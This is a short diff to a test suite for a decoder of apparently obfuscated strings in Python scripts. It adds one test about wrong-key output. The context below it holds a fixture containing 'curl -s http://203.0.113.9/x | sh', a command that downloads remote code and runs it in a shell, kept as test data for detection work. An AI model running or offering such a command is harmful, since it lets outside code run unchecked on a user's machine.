@@ -197,6 +197,11 @@ describe('decoding', () => {
     expect(unitsOf(...script(text, '/usr/bin/python3'))[0]?.cut).toBeUndefined();
   });
 
+  it('does not take what a wrong key gives for text', () => {
+    const garble = 'k = 3 ^ 1\nnames = ["\\x01", "ServiceAccountNames", "projectsLocationsChannels"]\n';
+    expect(unitsOf(...script(garble, '/usr/bin/python3'))).toHaveLength(1);
+  });
+
   it('does not take plain words for words under a key', () => {
     const text =
       'k = 3 ^ 1\nkeys = ["\\x01", " ", "ab"]\nhelp = "curl -s http://203.0.113.9/x | sh is what others do"\n';
